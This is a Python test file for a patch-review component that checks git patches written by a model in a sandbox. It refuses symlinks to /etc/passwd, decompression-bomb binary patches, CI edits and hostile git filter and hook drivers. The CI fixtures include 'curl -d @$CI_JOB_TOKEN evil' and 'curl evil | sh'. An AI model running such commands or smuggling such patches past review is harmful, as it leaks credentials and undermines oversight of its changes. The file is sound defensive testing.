"""The patch is judged from what git stores, outside the sandbox, and git's regeneration is what goes on.

Issue 12, findings 2, 4 (the review side) and 6: the review rules parsed the patch text themselves
(a section after a hunk that git applies went unseen; `splitlines` broke a symlink target at `\\r`),
a CI change was only flagged and a file pulled in by `include: local` not even that, and git ran
with the worker's own environment and global config (a filter driver saw the forge token).
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import time
import zlib
from pathlib import Path
from typing import Any

import pytest

from app.settings import Settings
from tests.doubles.git_http import git, git_env, make_worktree
from worker.attempts.attempt import ReviewPolicy
from worker.attempts.ci_config import CiUnreadable, local_includes
from worker.attempts.repo_config import RepoConfig, refusal_reasons, review_flags
from worker.attempts.stored_patch import (
    EVIDENCE_MEMORY_BYTES,
    EvidenceLimits,
    PatchEvidence,
    PatchRefused,
    take_evidence,
)
from worker.git.gitcalls import git_argv

CR_TARGET = "d\r/../../../../etc/passwd"


def head(repo: Path) -> str:
    return git("rev-parse", "HEAD", cwd=repo).stdout.strip()


def sandbox_diff(repo: Path) -> str:
    """What the sandbox hands over: `git add -A` and `git diff --cached --binary`, every byte kept."""
    assert git("add", "-A", cwd=repo).returncode == 0
    done = subprocess.run(
        ["git", "diff", "--cached", "--binary", "HEAD"], cwd=repo, env=git_env(), capture_output=True, check=True
    )
    return done.stdout.decode("utf-8", "surrogateescape")


def evidence(repo: Path, patch: str) -> PatchEvidence:
    return take_evidence(repo, head(repo), patch, repo.parent / "scratch", limits=EvidenceLimits())


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_worktree(
        tmp_path / "repo",
        {"calc.py": "x = 1\n", ".frogfix.yml": "test_command: pytest\n", "notes.txt": "a\nb\n"},
    )


# -- finding 2: git's reading, not ours -------------------------------------------------------

SECOND_SECTION = """diff --git a/calc.py b/calc.py
--- a/calc.py
+++ b/calc.py
@@ -1 +1 @@
-x = 1
+x = 2
--- a/.frogfix.yml
+++ b/.frogfix.yml
@@ -1 +1 @@
-test_command: pytest
+test_command: "true"
"""


def test_a_plain_section_after_a_hunk_is_applied_by_git_and_judged(repo: Path) -> None:
    changes = evidence(repo, SECOND_SECTION)
    assert changes.paths == [".frogfix.yml", "calc.py"]  # git applied both sections
    assert refusal_reasons(changes, RepoConfig()) == [
        "changes FrogFix's own configuration .frogfix.yml (only people may change it)"
    ]
    assert "diff --git a/.frogfix.yml b/.frogfix.yml" in changes.patch  # and the stored patch says so plainly


def test_a_symlink_target_with_a_carriage_return_is_judged_as_git_stores_it(repo: Path) -> None:
    os.symlink(CR_TARGET, repo / "innocent")
    patch = sandbox_diff(repo)  # a real `git diff`, as the model can make it in the sandbox
    assert "+d\r/../../../../etc/passwd" in patch
    changes = evidence(repo, patch)
    [link] = changes.files
    assert link.symlink and link.link_target == CR_TARGET and link.size == len(CR_TARGET)
    assert refusal_reasons(changes, RepoConfig()) == [
        f"adds symlink innocent pointing outside the repository ({CR_TARGET!r})"
    ]


def test_every_kind_of_change_is_read_from_gits_objects(repo: Path) -> None:
    (repo / "calc.py").write_text("x = 2\n")
    (repo / "calc.py").chmod(0o755)
    (repo / "notes.txt").unlink()
    (repo / "blob.bin").write_bytes(b"ok\x00\x01\x02")
    os.symlink("calc.py", repo / "link")
    changes = evidence(repo, sandbox_diff(repo))
    got = {f.path: (f.status, f.old_mode, f.new_mode, f.added, f.removed, f.binary, f.size) for f in changes.files}
    assert got == {
        "blob.bin": ("added", "000000", "100644", 0, 0, True, 5),
        "calc.py": ("modified", "100644", "100755", 1, 1, False, 6),
        "link": ("added", "000000", "120000", 1, 0, False, 7),
        "notes.txt": ("deleted", "100644", "000000", 0, 2, False, 0),
    }
    assert changes.diffstat() == [("blob.bin", 0, 0), ("calc.py", 1, 1), ("link", 1, 0), ("notes.txt", 0, 2)]
    assert refusal_reasons(changes, RepoConfig()) == ["adds binary file blob.bin"]
    # The regeneration is git's own, full index lines included, and rebuilds the very same tree.
    assert "index 0000000000000000000000000000000000000000.." in changes.patch
    assert "GIT binary patch" in changes.patch and "old mode 100644\nnew mode 100755" in changes.patch
    assert evidence(repo, changes.patch).tree == changes.tree


def test_the_repositorys_attributes_cannot_pass_a_binary_file_off_as_text(tmp_path: Path) -> None:
    repo = make_worktree(tmp_path / "repo", {".gitattributes": "*.dat diff\n* -binary\n", "a.txt": "a\n"})
    (repo / "blob.dat").write_bytes(b"MZ\x00\x01\x02")
    (repo / ".gitattributes").write_text("*.dat diff\n* -binary\nblob.dat text\n")
    changes = evidence(repo, sandbox_diff(repo))
    assert [(f.path, f.binary) for f in changes.files] == [(".gitattributes", False), ("blob.dat", True)]
    assert refusal_reasons(changes, RepoConfig()) == ["adds binary file blob.dat"]


def test_a_patch_git_cannot_apply_is_refused_with_gits_reason(repo: Path) -> None:
    stale = SECOND_SECTION.replace("-x = 1", "-x = 7")
    with pytest.raises(PatchRefused, match=r"git cannot apply the patch to the base commit: .*calc\.py"):
        evidence(repo, stale)


def test_a_patch_whose_regeneration_is_too_large_is_refused(repo: Path) -> None:
    (repo / "big.txt").write_text("line\n" * 1000)
    with pytest.raises(PatchRefused, match=r"larger than 2048 bytes"):
        take_evidence(repo, head(repo), sandbox_diff(repo), repo.parent / "s", limits=EvidenceLimits(2048))


def inflating_patch(path: str, size: int) -> str:
    """A `GIT binary patch` literal adding `size` bytes of `a\\n` lines: text that deflates ~1000-fold,
    so a patch of a few hundred KB, well under every text bound, is hundreds of MiB in git."""
    chunk, left = b"a\n" * (1 << 19), size
    digest, packer, packed = hashlib.sha1(b"blob %d\0" % size), zlib.compressobj(9), []
    while left:
        piece = chunk[: min(left, len(chunk))]
        digest.update(piece)
        packed.append(packer.compress(piece))
        left -= len(piece)
    data = b"".join([*packed, packer.flush()])
    lines = []
    for at in range(0, len(data), 52):  # git's base85 lines: a length letter, then 4 bytes per 5 characters
        part = data[at : at + 52]
        letter = chr(ord("A") + len(part) - 1) if len(part) <= 26 else chr(ord("a") + len(part) - 27)
        lines.append(letter + base64.b85encode(part, pad=True).decode())
    body = "\n".join(lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex {'0' * 40}..{digest.hexdigest()}\n"
        f"GIT binary patch\nliteral {size}\n{body}\n\nliteral 0\nHcmV?d00001\n\n"
    )


PEAK_OF_GITS = """
import json, resource, sys
from pathlib import Path
from worker.attempts.stored_patch import EvidenceLimits, PatchRefused, take_evidence
repo, base, patch, scratch, limits = sys.argv[1:]
try:
    take_evidence(Path(repo), base, Path(patch).read_text(), Path(scratch), limits=EvidenceLimits(*json.loads(limits)))
    refused = None
except PatchRefused as exc:
    refused = str(exc)
print(json.dumps({"refused": refused, "peak_kib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def evidence_in_child(repo: Path, patch: str, limits: EvidenceLimits) -> tuple[str | None, int, float]:
    """take_evidence in a fresh process: its outcome, the peak RSS of the git processes it ran (KiB), seconds."""
    (repo.parent / "hostile.patch").write_text(patch)
    fields = [limits.max_patch_bytes, limits.max_file_bytes, limits.max_memory_bytes]
    args = [str(repo), head(repo), str(repo.parent / "hostile.patch"), str(repo.parent / "s"), json.dumps(fields)]
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", PEAK_OF_GITS, *args], cwd=Path(__file__).parents[2], capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr[-3000:]
    out = json.loads(done.stdout)
    return out["refused"], out["peak_kib"], time.monotonic() - started


MIB = 1024 * 1024


def test_a_small_patch_that_git_inflates_to_a_huge_file_is_refused_before_any_diff(repo: Path) -> None:
    """Review of issue 12, B2: ~170 KB of patch became 128 MiB in git, and git's own diff and numstat
    of it took ~3 GiB each in the worker, with no sandbox wall around them."""
    patch = inflating_patch("big.txt", 128 * MIB)
    assert len(patch) < 300_000  # far under FROGFIX_MAX_PATCH_BYTES
    shipped = ReviewPolicy.from_settings(Settings()).evidence  # the worker's own limits: git under 1 GiB
    assert shipped.max_memory_bytes == EVIDENCE_MEMORY_BYTES == 1024 * MIB
    refused, peak_kib, _ = evidence_in_child(repo, patch, shipped)
    assert refused is not None
    assert f"grows the files by {128 * MIB} bytes once git inflates it" in refused
    assert peak_kib < 400 * 1024  # git apply holds the file once (~130 MiB); no diff ever ran over it


def test_a_file_larger_than_the_sandbox_could_write_is_refused(repo: Path) -> None:
    limits = EvidenceLimits(max_file_bytes=2 * MIB)
    with pytest.raises(PatchRefused, match=r"git would store big\.txt as 3145728 bytes, more than the sandbox's limit"):
        take_evidence(repo, head(repo), inflating_patch("big.txt", 3 * MIB), repo.parent / "s", limits=limits)


def test_every_git_call_of_the_evidence_runs_under_the_memory_bound(repo: Path) -> None:
    """Defence in depth: git itself cannot take more than the bound, whatever slips past the size checks."""
    limits = EvidenceLimits(max_memory_bytes=96 * MIB)
    refused, peak_kib, _ = evidence_in_child(repo, inflating_patch("big.txt", 128 * MIB), limits)
    assert refused is not None and refused.startswith("git cannot apply the patch to the base commit")
    assert "memory" in refused.lower()
    assert peak_kib < 96 * 1024
    # A normal patch still goes through under that bound.
    (repo / "calc.py").write_text("x = 2\n")
    assert evidence_in_child(repo, sandbox_diff(repo), limits)[0] is None


def test_the_evidences_memory_bound_is_the_smaller_of_the_sandboxs_and_1_gib(monkeypatch: pytest.MonkeyPatch) -> None:
    """Final review, S2: the sandbox's 4 GiB per git call is no wall in a 2 GiB worker pod that runs several jobs."""
    monkeypatch.setenv("FROGFIX_SANDBOX", "kubernetes")  # no local sizes rule, so any memory loads
    monkeypatch.delenv("FROGFIX_SANDBOX_MEMORY", raising=False)
    assert ReviewPolicy.from_settings(Settings()).evidence.max_memory_bytes == 1024 * MIB  # sandbox: 4 GiB
    monkeypatch.setenv("FROGFIX_SANDBOX_MEMORY", "768Mi")
    assert ReviewPolicy.from_settings(Settings()).evidence.max_memory_bytes == 768 * MIB
    monkeypatch.setenv("FROGFIX_SANDBOX_MEMORY", "16Gi")
    policy = ReviewPolicy.from_settings(Settings())
    assert policy.evidence.max_memory_bytes == 1024 * MIB
    assert policy.evidence.max_file_bytes == EvidenceLimits().max_file_bytes  # the sandbox's per-file limit stays
    assert EvidenceLimits().max_memory_bytes == 1024 * MIB


def test_without_prlimit_the_evidence_is_still_taken_unbounded(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker image without util-linux loses only the memory bound (a warning says so), not the job."""
    only_git = tmp_path / "bin"
    only_git.mkdir()
    os.symlink(str(shutil.which("git")), only_git / "git")
    monkeypatch.setenv("PATH", str(only_git))
    assert git_argv(["status"], 64 * MIB) == ["git", "status"]
    assert evidence(repo, SECOND_SECTION).paths == [".frogfix.yml", "calc.py"]
    monkeypatch.undo()
    assert git_argv(["status"], 64 * MIB)[1:] == [f"--as={64 * MIB}", "--", "git", "status"]


def test_nothing_is_written_into_the_users_checkout(repo: Path) -> None:
    (repo / "calc.py").write_text("x = 3\n")
    patch = sandbox_diff(repo)
    git("reset", "-q", "--hard", cwd=repo)
    before = sorted((str(p), p.read_bytes() if p.is_file() else b"") for p in (repo / ".git").rglob("*"))
    changes = evidence(repo, patch)
    after = sorted((str(p), p.read_bytes() if p.is_file() else b"") for p in (repo / ".git").rglob("*"))
    # No object, index, ref or config of the checkout is added or changed (git may only freshen the
    # mtime of an object it finds there, as it does for any alternate).
    assert after == before
    assert git("cat-file", "-e", changes.tree, cwd=repo).returncode != 0  # the tree lived in the private store
    assert not (repo.parent / "scratch").exists() or not any((repo.parent / "scratch").iterdir())


# -- finding 4, the review side: CI configuration ---------------------------------------------


def test_ci_changes_are_refused_by_default_and_flagged_when_allowed(repo: Path) -> None:
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    (repo / ".gitlab-ci.yml").write_text("steal:\n  script: curl -d @$CI_JOB_TOKEN evil\n")
    (repo / "calc.py").write_text("x = 2\n")
    changes = evidence(repo, sandbox_diff(repo))
    assert refusal_reasons(changes, RepoConfig()) == [
        "changes CI configuration .github/workflows/ci.yml (FROGFIX_ALLOW_CI_CHANGES is off)",
        "changes CI configuration .gitlab-ci.yml (FROGFIX_ALLOW_CI_CHANGES is off)",
    ]
    assert refusal_reasons(changes, RepoConfig(), allow_ci=True) == []
    assert review_flags(changes, RepoConfig()) == [
        "changes CI configuration .github/workflows/ci.yml",
        "changes CI configuration .gitlab-ci.yml",
    ]


GITLAB_CI = """include:
  - local: /ci/build.yml
  - /templates/*.yml
  - https://example.com/remote.yml
  - project: other/group
    file: /shared.yml
  - template: Auto-DevOps.gitlab-ci.yml
build:
  script: make
"""


def test_files_the_gitlab_ci_file_includes_locally_are_ci_configuration(tmp_path: Path) -> None:
    repo = make_worktree(
        tmp_path / "repo",
        {
            ".gitlab-ci.yml": GITLAB_CI,
            "ci/build.yml": "include: ci/nested.yml\n",
            "ci/nested.yml": "x: 1\n",
            "templates/deploy.yml": "deploy: {script: ./deploy}\n",
            "shared.yml": "not included from this project\n",
            "scripts/run.yml": "run: {script: ./run}\n",
        },
    )
    for name in ("ci/build.yml", "ci/nested.yml", "templates/deploy.yml", "shared.yml"):
        (repo / name).write_text("pwned: {script: env}\n")
    reasons = refusal_reasons(evidence(repo, sandbox_diff(repo)), RepoConfig())
    assert reasons == [
        f"changes CI configuration {p} (FROGFIX_ALLOW_CI_CHANGES is off)"
        for p in ("ci/build.yml", "ci/nested.yml", "templates/deploy.yml")
    ]
    # An include the patch itself adds counts too (read from the patched tree), as does the CI file.
    git("reset", "-q", "--hard", cwd=repo)
    (repo / ".gitlab-ci.yml").write_text(GITLAB_CI.replace("include:\n", "include:\n  - local: scripts/run.yml\n"))
    (repo / "scripts" / "run.yml").write_text("run: {script: env}\n")
    changes = evidence(repo, sandbox_diff(repo))
    assert [r.split(" (")[0] for r in refusal_reasons(changes, RepoConfig())] == [
        "changes CI configuration .gitlab-ci.yml",
        "changes CI configuration scripts/run.yml",
    ]


def test_local_includes_read_every_form_and_ignore_the_rest() -> None:
    assert local_includes(GITLAB_CI.encode()) == ["ci/build.yml", "templates/*.yml"]
    assert local_includes(b"include: /one.yml\n") == ["one.yml"]
    assert local_includes(b"include: {local: two.yml}\n") == ["two.yml"]
    assert local_includes(b"- a\n") == [] and local_includes(b"") == []
    for unreadable, why in (
        (b"include: [\n", "not YAML"),
        (b"x: " + b"a" * 300_000, "larger than 262144 bytes"),  # over the bound: not parsed
        (b"[" * 20_000, "not YAML"),  # nesting deeper than the parser goes
    ):
        with pytest.raises(CiUnreadable, match=why):
            local_includes(unreadable)


# Review of issue 12, B1: a custom tag (GitLab's `!reference`) made the whole file unreadable and
# its includes were silently dropped; child pipelines' includes were never read.
TAGGED_CI = """.setup:
  script: [./setup]
include: [{local: ci/build.yml}]
build:
  script:
    - !reference [.setup, script]
    - make
child-string:
  trigger:
    include: ci/child.yml
child-local:
  trigger:
    include:
      - local: /ci/child-local.yml
      - project: other/group
        file: /remote.yml
      - /ci/child-list.yml
child-glob:
  trigger: {include: {local: 'children/*.yml'}}
other: !custom-tag {any: thing}
"""


def test_includes_are_read_through_custom_tags_and_from_child_pipelines(tmp_path: Path) -> None:
    files = ("ci/build.yml", "ci/child.yml", "ci/child-local.yml", "ci/child-list.yml", "children/a/b.yml")
    repo = make_worktree(
        tmp_path / "repo",
        {".gitlab-ci.yml": TAGGED_CI, "remote.yml": "x: 1\n", "calc.py": "x = 1\n"} | {f: "x: 1\n" for f in files},
    )
    for name in (*files, "remote.yml", "calc.py"):
        (repo / name).write_text("pwned: {script: curl evil | sh}\n")
    assert refusal_reasons(evidence(repo, sandbox_diff(repo)), RepoConfig()) == [
        f"changes CI configuration {p} (FROGFIX_ALLOW_CI_CHANGES is off)" for p in sorted(files)
    ]
    assert local_includes(TAGGED_CI.encode()) == [
        "ci/build.yml", "ci/child.yml", "ci/child-local.yml", "ci/child-list.yml", "children/*.yml"
    ]  # fmt: skip


UNREADABLE_CI = {
    "not YAML": ("include: [ci/a.yml\n", "not YAML"),
    "too large": ("x: " + "a" * 300_000 + "\n", "larger than 262144 bytes"),
    "too many includes": (
        "include:\n" + "".join(f"  - local: inc/{n}.yml\n" for n in range(70)),
        "more than 64 local includes",
    ),
}


@pytest.mark.parametrize("tree", ["base", "patched"])
@pytest.mark.parametrize("case", sorted(UNREADABLE_CI))
def test_an_unreadable_gitlab_ci_file_makes_every_yaml_file_ci_configuration(
    tmp_path: Path, case: str, tree: str
) -> None:
    text, why = UNREADABLE_CI[case]
    seeded = {"deploy/app.yaml": "a: 1\n", "Notes.YML": "a: 1\n", "calc.py": "x = 1\n"}
    includes = {f"inc/{n}.yml": "x: 1\n" for n in range(70)}
    repo = make_worktree(tmp_path / "repo", seeded | includes | ({".gitlab-ci.yml": text} if tree == "base" else {}))
    if tree == "patched":  # the patch itself writes the unreadable CI file
        (repo / ".gitlab-ci.yml").write_text(text)
    for name in seeded:
        (repo / name).write_text("b: 2\n")
    changes = evidence(repo, sandbox_diff(repo))
    reasons = refusal_reasons(changes, RepoConfig())
    yaml_reasons = [r for r in reasons if not r.startswith("changes CI configuration .gitlab-ci.yml")]
    assert [r.split(" (")[0] for r in yaml_reasons] == [
        "changes CI configuration Notes.YML",
        "changes CI configuration deploy/app.yaml",
    ]  # fmt: skip; calc.py is no YAML file, so not CI configuration
    for reason in yaml_reasons:
        assert f"the {tree} tree's .gitlab-ci.yml cannot be read for its includes ({why}" in reason
        assert "so every YAML file the patch changes counts as CI configuration" in reason
    assert review_flags(changes, RepoConfig())[-2:] == [
        "changes CI configuration Notes.YML", "changes CI configuration deploy/app.yaml"
    ]  # fmt: skip


def test_flags_and_refusals_show_each_name_as_the_mr_table_does(repo: Path) -> None:
    """Review of issue 12, nit: flags and reasons put the raw name in the text; they use `shown_path` now."""
    (repo / "tests").mkdir()
    (repo / "tests" / "a\n@all\n").write_text("def test_a(): pass\n")
    (repo / "b\nmerge").write_bytes(b"\x00\x01")
    (repo / ".github").mkdir()
    (repo / ".github" / "c\r@all").write_text("on: push\n")
    changes = evidence(repo, sandbox_diff(repo))
    assert review_flags(changes, RepoConfig()) == [
        'changes CI configuration ".github/c\\r@all"',
        'changes test file or test-runner configuration "tests/a\\n@all\\n"',
    ]
    assert refusal_reasons(changes, RepoConfig()) == [
        'changes CI configuration ".github/c\\r@all" (FROGFIX_ALLOW_CI_CHANGES is off)',
        'adds binary file "b\\nmerge"',
    ]
    assert all("\n" not in line and "\r" not in line for line in review_flags(changes, RepoConfig()))


# -- finding 6: no git filter, hook or driver of the worker's own config ----------------------

HOOKS = (
    "pre-commit", "post-commit", "post-checkout", "post-merge", "pre-push", "reference-transaction",
    "post-index-change", "pre-auto-gc", "post-rewrite", "pre-applypatch", "post-applypatch", "applypatch-msg",
    "prepare-commit-msg", "commit-msg", "push-to-checkout",
)  # fmt: skip


def hostile_git_config(folder: Path) -> tuple[Path, Path]:
    """A global git config whose every driver and hook records that it ran, and with what environment."""
    markers = folder / "markers"
    markers.mkdir(parents=True)
    driver = folder / "driver.sh"
    body = 'if [ -n "$2" ] && [ -f "$2" ]; then cat "$2"; else cat; fi'
    driver.write_text(f'#!/bin/sh\nenv > "{markers}/$1.$$"\n{body}\n')
    driver.chmod(0o755)
    hooks = folder / "hooks"
    hooks.mkdir()
    for name in HOOKS:
        (hooks / name).write_text(f'#!/bin/sh\nenv > "{markers}/hook-{name}.$$"\n')
        (hooks / name).chmod(stat.S_IRWXU)
    config = folder / "gitconfig"
    config.write_text(
        f'[filter "evil"]\n\tclean = {driver} clean\n\tsmudge = {driver} smudge\n\trequired = true\n'
        f'[diff "evil"]\n\ttextconv = {driver} textconv\n'
        f"[diff]\n\texternal = {driver} external\n"
        f"[core]\n\thooksPath = {hooks}\n\tfsmonitor = {driver} fsmonitor\n"
        f"[uploadpack]\n\tpackObjectsHook = {driver} pack-objects\n"
    )
    return config, markers


ATTRIBUTES = "* filter=evil diff=evil\n"


def machine_git_config(monkeypatch: pytest.MonkeyPatch, folder: Path) -> tuple[dict[str, str], Path]:
    """The hostile config as every place plain git reads a machine's config from: the system file
    (GIT_CONFIG_SYSTEM), the global one (GIT_CONFIG_GLOBAL), $HOME/.gitconfig and
    $XDG_CONFIG_HOME/git/config. Set on this process (the worker's); returns the variables and
    the markers folder."""
    config, markers = hostile_git_config(folder)
    home = folder / "home"
    (home / "git").mkdir(parents=True)
    (home / ".gitconfig").write_text(config.read_text())
    (home / "git" / "config").write_text(config.read_text())
    env = {"GIT_CONFIG_SYSTEM": str(config), "GIT_CONFIG_GLOBAL": str(config), "HOME": str(home),
           "XDG_CONFIG_HOME": str(home)}  # fmt: skip
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.delenv("GIT_CONFIG_NOSYSTEM", raising=False)
    return env, markers


def assert_plain_git_runs_the_drivers(folder: Path, env: dict[str, str], markers: Path) -> None:
    """The positive control: git without FrogFix's isolation runs the hostile filter from each of
    those places alone, so a test that then sees no marker proves the isolation, not a config
    git would have ignored anyway."""
    empty = folder / "empty-home"
    empty.mkdir()
    none = {"PATH": os.environ["PATH"], "HOME": str(empty), "XDG_CONFIG_HOME": str(empty),
            "GIT_CONFIG_SYSTEM": os.devnull, "GIT_CONFIG_GLOBAL": os.devnull}  # fmt: skip
    sources = {
        "system": {"GIT_CONFIG_SYSTEM": env["GIT_CONFIG_SYSTEM"]},
        "global": {"GIT_CONFIG_GLOBAL": env["GIT_CONFIG_GLOBAL"]},
        "home": {"HOME": env["HOME"], "XDG_CONFIG_HOME": str(empty), "GIT_CONFIG_GLOBAL": ""},
        "xdg": {"XDG_CONFIG_HOME": env["XDG_CONFIG_HOME"], "GIT_CONFIG_GLOBAL": ""},
    }
    for name, source in sources.items():
        plain = {**none, **source}
        if plain["GIT_CONFIG_GLOBAL"] == "":
            del plain["GIT_CONFIG_GLOBAL"]  # unset: git reads $HOME/.gitconfig and $XDG_CONFIG_HOME/git/config
        repo = folder / f"control-{name}"
        subprocess.run(["git", "init", "-q", str(repo)], env=none, check=True, capture_output=True)
        (repo / ".gitattributes").write_text(ATTRIBUTES)
        (repo / "f.txt").write_text("x\n")
        subprocess.run(["git", "-C", str(repo), "add", "-A"], env=plain, check=False, capture_output=True)
        ran = sorted(p.name.split(".")[0] for p in markers.iterdir())
        assert "clean" in ran, (name, ran)
        for marker in markers.iterdir():
            marker.unlink()


@pytest.mark.bwrap
def test_fix_never_runs_a_filter_or_hook_of_the_machines_git_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.doubles.openai_server import ScriptedOpenAIServer, assistant, text_call
    from tests.fix.sample_repo import make_sample_repo
    from tests.fix.test_fix_command import run_fix

    repo = make_sample_repo(tmp_path)
    (repo / ".gitattributes").write_text(ATTRIBUTES)
    for args in (("add", "-A"), ("commit", "-qm", "attributes")):
        assert git(*args, cwd=repo).returncode == 0  # the test's own git: isolated, no driver runs here
    env, markers = machine_git_config(monkeypatch, tmp_path / "host")  # system, global, HOME and XDG
    assert_plain_git_runs_the_drivers(tmp_path, env, markers)
    edit = text_call("Edit", file_path="calc.py", old_string="return a - b", new_string="return a + b")
    script: list[Any] = [assistant(edit), assistant("Fixed add().")]
    with ScriptedOpenAIServer(script) as server:
        proc = run_fix(repo, tmp_path / "data", server.base_url, "--json", env_extra=env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert '"status": "fixed"' in proc.stdout
    assert sorted(p.name for p in markers.iterdir()) == []
